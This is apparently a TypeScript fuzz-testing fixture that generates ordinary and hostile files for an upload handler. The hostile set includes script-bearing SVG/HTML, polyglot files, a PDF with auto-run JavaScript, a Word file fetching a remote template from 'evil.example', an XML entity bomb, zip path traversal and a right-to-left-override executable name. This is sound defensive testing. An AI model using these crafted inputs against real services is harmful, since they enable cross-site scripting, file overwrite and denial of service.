import { pdfFile, UPLOAD, wordFile } from '../files/exampleFiles.ts'
import { storedZip } from '../files/storedZip.ts'
import type { Chance } from './chance.ts'

export type FuzzFile = { name: string; type: string; bytes: Buffer }

/** One dot, which every reader of pictures takes. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==', 'base64')
const PDF = pdfFile(['<</Type /Catalog /Pages 2 0 R>>', '<</Type /Pages /Kids [] /Count 0>>'])
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"><script>ran()</script></svg>')
const HTML = Buffer.from('<!doctype html><script>ran()</script>')
const NAMES = [
  '图.png',
  'a.jpg',
  'x.gif',
  '说明.pdf',
  '稿.docx',
  '../../x.png',
  'a'.repeat(300),
  '',
  '.htaccess',
  'x.svg',
  'x.html',
  '库.zip',
  '\u202Egnp.exe',
]
const TYPES = [
  'image/png',
  'image/jpeg',
  'application/pdf',
  'application/zip',
  'text/html',
  'application/octet-stream',
  '<script>',
]

/** A picture that says it is as large as can be. */
function hugePicture(): Buffer {
  const bytes = Buffer.from(PNG)
  bytes.writeUInt32BE(0x7fffffff, 16)
  bytes.writeUInt32BE(0x7fffffff, 20)
  return bytes
}

/** What people and others send, whole. */
export const WHOLE_FILES: Record<string, Buffer> = {
  png: PNG,
  gif: GIF,
  pdf: PDF,
  smallPdf: UPLOAD.bytes,
  word: wordFile({ body: '<w:r><w:t>正文</w:t></w:r>' }),
  zip: storedZip([{ name: 'content/a.md', content: '# 一' }]),
}

/** What nobody should take for what it says it is. */
export const HOSTILE_FILES: Record<string, Buffer> = {
  empty: Buffer.alloc(0),
  zeros: Buffer.alloc(4_096),
  svg: SVG,
  html: HTML,
  hugePicture: hugePicture(),
  pictureThenPage: Buffer.concat([PNG, HTML]),
  pageInGif: Buffer.concat([Buffer.from('GIF89a/*'), HTML]),
  pdfWithScript: pdfFile([
    '<</Type /Catalog /Pages 2 0 R /OpenAction <</S /JavaScript /JS (app.alert(1))>> >>',
    '<</Type /Pages /Kids [] /Count 0>>',
  ]),
  pdfInCircles: pdfFile(['<</Type /Catalog /Pages 2 0 R>>', '<</Type /Pages /Kids [2 0 R] /Count 9>>']),
  wordWithMacro: wordFile({
    parts: [
      { name: 'word/vbaProject.bin', content: Buffer.from('macro'), type: 'application/vnd.ms-office.vbaProject' },
    ],
  }),
  wordFromOutside: wordFile({
    related:
      '<Relationship Id="r9" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
  }),
  wordWithEntities: wordFile({ before: `<!DOCTYPE a [<!ENTITY b "${'b'.repeat(1_000)}">]>`, body: '&b;'.repeat(50) }),
  wordDeep: wordFile({ body: `${'<w:r>'.repeat(5_000)}${'</w:r>'.repeat(5_000)}` }),
  zipOutOfPlace: storedZip([{ name: '../../../../tmp/x.md', content: 'x' }]),
  zipTwice: storedZip([
    { name: 'a.md', content: 'x' },
    { name: 'a.md', content: 'y' },
  ]),
  exe: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(512, 7)]),
}

const ALL = [...Object.values(WHOLE_FILES), ...Object.values(HOSTILE_FILES)]

/** One of them, as it is or damaged, under a name and a type of its own. */
export function anyFile(chance: Chance): FuzzFile {
  const bytes = chance.pick(ALL)
  return {
    name: chance.pick(NAMES),
    type: chance.pick(TYPES),
    bytes: chance.likely(0.5) ? bytes : damaged(bytes, chance),
  }
}

/** Cut short, with bits turned, with a piece taken out or put in twice. */
export function damaged(bytes: Buffer, chance: Chance): Buffer {
  const at = chance.below(bytes.length)
  const turn = chance.below(4)
  if (turn === 0) return bytes.subarray(0, at)
  if (turn === 1) return Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + 1 + chance.below(40))])
  if (turn === 2) return Buffer.concat([bytes.subarray(0, at), bytes.subarray(Math.max(0, at - 40))])
  const turned = Buffer.from(bytes)
  for (let count = 0; count < 1 + chance.below(12) && turned.length > 0; count += 1) {
    const place = chance.below(turned.length)
    turned.writeUInt8((turned[place] ?? 0) ^ (1 << chance.below(8)), place)
  }
  return turned
}
